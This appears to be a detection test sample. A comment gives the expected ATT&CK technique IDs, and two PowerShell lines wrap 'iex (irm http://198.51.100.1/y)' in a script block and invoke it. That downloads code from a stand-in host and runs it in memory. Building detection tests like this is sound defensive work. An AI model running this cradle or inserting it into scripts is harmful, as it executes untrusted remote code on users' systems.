# expect: T1059.001 T1105
$sb = [ScriptBlock]::Create('iex (irm http://198.51.100.1/y)')
& $sb
